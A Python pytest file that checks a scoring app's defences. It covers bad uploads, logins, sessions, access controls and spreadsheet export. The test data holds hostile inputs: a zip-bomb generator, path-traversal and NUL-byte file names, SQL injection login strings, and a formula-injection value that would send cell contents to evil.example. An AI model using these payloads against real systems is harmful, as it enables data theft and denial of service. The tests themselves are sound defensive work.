"""Attacks and bad inputs, each with its expected outcome: refused, with a message, and nothing written."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from argon2 import PasswordHasher
from conftest import ROSTER_ROWS, csv_bytes

from kaohe.access import LOCAL_VIEWER, AccessDenied, Role, Viewer
from kaohe.auth import NAME_RULE, Accounts, LoginRefused, token_hash
from kaohe.ingest import IngestError, import_file, preview_file
from kaohe.ingest.guard import MAX_UPLOAD_BYTES
from kaohe.store import Store

pytest_plugins = ["fixtures_app"]

PASSWORD = "correct-horse-9"


def workbook(rows: list[list[str]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A real workbook with one extra part that inflates 200 MB of zeros from a few hundred KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook(ROSTER_ROWS))) as good, zipfile.ZipFile(buffer, "w") as bomb:
        for item in good.infolist():
            bomb.writestr(item, good.read(item))
        bomb.writestr("xl/media/zeros.bin", b"\0" * (200 * 1024 * 1024), compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx_like() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


HTML_EXPORT = "<html><head><meta charset='utf-8'></head><body><table><tr><td>编号</td></tr></table></body></html>"

BAD_UPLOADS = [
    pytest.param(lambda: HTML_EXPORT.encode(), "台账.xlsx", "网页（HTML）", id="html-named-xlsx"),
    pytest.param(lambda: HTML_EXPORT.encode(), "台账.csv", "网页（HTML）", id="html-named-csv"),
    pytest.param(zip_bomb, "名册.xlsx", "压缩炸弹", id="zip-bomb"),
    pytest.param(docx_like, "名册.xlsx", "不是 Excel 工作簿", id="docx-named-xlsx"),
    pytest.param(lambda: b"PK\x03\x04" + b"\0" * 100, "名册.xlsx", "已损坏", id="truncated-zip"),
    pytest.param(lambda: b"%PDF-1.7\n" + bytes(range(256)), "名册.xlsx", "PDF", id="pdf-named-xlsx"),
    pytest.param(lambda: b"\x7fELF\x02\x01\x01" + bytes(200), "名册.csv", "Linux 程序", id="program-named-csv"),
    pytest.param(lambda: b"unit,name\r\nU01,\x01\x02\x03\x04", "名册.csv", "控制字符 0x01", id="binary-csv"),
    pytest.param(lambda: workbook(ROSTER_ROWS), "名册.csv", "改为 .xlsx", id="xlsx-named-csv"),
    pytest.param(lambda: b"\xd0\xcf\x11\xe0" + bytes(100), "名册.xls", "旧版 Excel", id="legacy-xls"),
    pytest.param(lambda: csv_bytes(ROSTER_ROWS), "名册.exe", "不受支持", id="wrong-suffix"),
    pytest.param(lambda: b"", "名册.csv", "空文件", id="empty"),
    pytest.param(lambda: b"a" * (MAX_UPLOAD_BYTES + 1), "大.csv", "太大", id="oversize"),
    pytest.param(lambda: csv_bytes(ROSTER_ROWS), "../../etc/名册.csv", "不能含有路径", id="path-traversal"),
    pytest.param(lambda: csv_bytes(ROSTER_ROWS), "..\\名册.csv", "不能含有路径", id="windows-path-traversal"),
    pytest.param(lambda: csv_bytes(ROSTER_ROWS), "C:名册.csv", "冒号", id="drive-relative-name"),
    pytest.param(lambda: csv_bytes(ROSTER_ROWS), "名册\x00.csv", "控制字符", id="nul-in-name"),
]


@pytest.mark.parametrize(("make", "file_name", "message"), BAD_UPLOADS)
def test_bad_uploads_are_refused_before_anything_is_written(store: Store, make, file_name: str, message: str) -> None:  # type: ignore[no-untyped-def]
    data = make()
    with pytest.raises(IngestError, match=message):
        preview_file(data, file_name)
    with pytest.raises(IngestError, match=message):
        import_file(store, data, file_name)
    written = store.cursor().execute(
        "select (select count(*) from imports) + (select count(*) from units) + (select count(*) from audit_log)"
    )
    assert written.fetchone() == (0,)


def test_a_genuine_workbook_and_csv_pass_the_guard(store: Store) -> None:
    assert import_file(store, workbook(ROSTER_ROWS), "名册.xlsx").loaded == 4
    assert preview_file(csv_bytes(ROSTER_ROWS), "名册.csv").ledger == "units"


# -- accounts ----------------------------------------------------------------------------------------


@pytest.fixture
def accounts(units_roster: Store) -> Accounts:
    clock_now = [datetime(2025, 3, 3, 9, 0)]
    accounts = Accounts(
        units_roster, clock=lambda: clock_now[0], hasher=PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    )
    accounts.clock_now = clock_now  # type: ignore[attr-defined]
    accounts.add_user(LOCAL_VIEWER, "admin", PASSWORD, "admin")
    return accounts


INJECTIONS = ["admin' or '1'='1", "admin'--", 'admin"; drop table users; --', "' union select * from users --"]


@pytest.mark.parametrize("name", INJECTIONS, ids=["or-true", "comment", "drop-table", "union"])
def test_sql_injection_in_the_login_name_is_just_a_wrong_name(accounts: Accounts, name: str) -> None:
    with pytest.raises(LoginRefused, match="用户名或密码错误"):
        accounts.login(name, PASSWORD)
    state = accounts.store.cursor().execute("select user_name from users").fetchall()
    assert state == [("admin",)]
    assert accounts.store.cursor().execute("select count(*) from login_throttle where key = 'admin'").fetchone() == (0,)


def test_guessing_passwords_holds_off_the_name_for_a_while_only(accounts: Accounts) -> None:
    for guess in ("123456", "password", "admin", "admin123", "qwerty"):
        with pytest.raises(LoginRefused):
            accounts.login("admin", guess)
    with pytest.raises(LoginRefused) as caught:
        accounts.login("admin", PASSWORD)
    assert caught.value.reason == "throttled"
    failures = accounts.store.cursor().execute("select failures from login_throttle where scope = 'name'")
    assert failures.fetchone() == (NAME_RULE.free,)
    # The hold is minutes, not a lock the guesser controls: once it has run out the admin signs in.
    accounts.clock_now[0] += NAME_RULE.first_wait  # type: ignore[attr-defined]
    assert accounts.login("admin", PASSWORD, client="10.0.0.2").session.user_name == "admin"


def test_an_expired_session_is_refused(accounts: Accounts) -> None:
    token = accounts.login("admin", PASSWORD).token
    accounts.clock_now[0] += timedelta(minutes=31)  # type: ignore[attr-defined]
    assert accounts.session(token) is None


def test_a_disabled_users_live_session_ends_at_once(accounts: Accounts) -> None:
    accounts.add_user(LOCAL_VIEWER, "li", PASSWORD, "analyst")
    token = accounts.login("li", PASSWORD).token
    assert accounts.session(token) is not None
    accounts.set_disabled(Viewer("admin", Role.ADMIN), "li", True)
    assert accounts.session(token) is None


def test_a_leaked_token_hash_is_not_a_token(accounts: Accounts) -> None:
    token = accounts.login("admin", PASSWORD).token
    assert accounts.session(token_hash(token)) is None
    assert accounts.session("") is None and accounts.session("forged-token") is None


# -- reading what one may not ------------------------------------------------------------------------


@pytest.mark.parametrize("table", ["users", "sessions", "audit_log", "qualitative_scores", "adjustments"])
def test_the_sql_console_snapshot_holds_no_accounts_or_assessor_input(
    accounts: Accounts, tmp_path: Path, table: str
) -> None:
    from kaohe.sandbox import Console, SandboxError

    console = Console(accounts.store, folder=tmp_path)
    try:
        assert console.run("select count(*) as n from units").frame["n"].tolist() == [4]
        with pytest.raises(SandboxError, match=table):
            console.run(f"select * from {table}")
    finally:
        console.close()


def test_a_branch_user_asking_for_another_unit_gets_nothing(fresh_demo_db: Path) -> None:
    from kaohe import publish, results, scorecard
    from kaohe.periods import parse_period

    period = parse_period("2025")
    branch = Viewer("sq01", Role.BRANCH, unit_id="SQ01")
    with Store(fresh_demo_db) as store:
        with pytest.raises(AccessDenied):
            results.view(store, branch, period)  # unpublished scores
        publish.publish(store, Viewer("书记", Role.SECRETARY), period)
        shown = results.view(store, branch, period)
        assert shown.score.units["unit_id"].tolist() == ["SQ01"]
        assert set(shown.score.lines["unit_id"]) == {"SQ01"}
        assert set(shown.score.adjustments["unit_id"]) <= {"SQ01"}
        assert shown.units_scored == 36  # its rank is out of every unit, though it sees one row
        with pytest.raises(AccessDenied, match="SQ01"):
            scorecard.compare_units(shown.score, ["SQ01", "SQ02"], branch)
        with pytest.raises(AccessDenied):
            results.view(store, branch, period, published=False)  # asking for the live figures changes nothing


def test_formula_injection_in_a_unit_name_never_reaches_a_spreadsheet_as_a_formula(fresh_demo_db: Path) -> None:
    from kaohe.export import context
    from kaohe.export import csv_bytes as export_csv
    from kaohe.export_xlsx import workbook_bytes
    from kaohe.periods import parse_period

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    with Store(fresh_demo_db) as store:
        (kind, community, members) = (
            store.cursor().execute("select kind, community, members from units where unit_id = 'SQ01'").fetchone()
        )
        roster = [["编号", "党组织名称", "类型", "所属社区", "党员数"], ["SQ01", evil, kind, community, str(members)]]
        assert import_file(store, csv_bytes(roster), "名册更新.csv").loaded == 1
        ctx = context(store, LOCAL_VIEWER, parse_period("2025"))
        result = ctx.result
        text = export_csv(ctx).decode("utf-8-sig")
        book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(ctx)))
    assert evil in result.units["unit"].tolist()
    assert "'=HYPERLINK" in text and "\r\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cells, "the unit name should appear in the workbook"
    # A text cell (type "s") is shown, never evaluated, even when it starts with "="; only "f" cells run.
    assert [c.coordinate for c in cells if c.data_type != "s"] == []
